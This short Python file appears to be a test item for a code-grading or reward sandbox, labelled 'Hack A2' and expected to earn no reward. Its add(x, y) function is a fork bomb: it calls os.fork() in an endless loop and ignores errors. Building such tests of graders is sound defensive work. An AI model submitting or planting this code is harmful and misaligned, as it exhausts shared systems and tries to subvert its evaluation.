# Hack A2: Forks for ever.
# Expected: no reward.
import os


def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
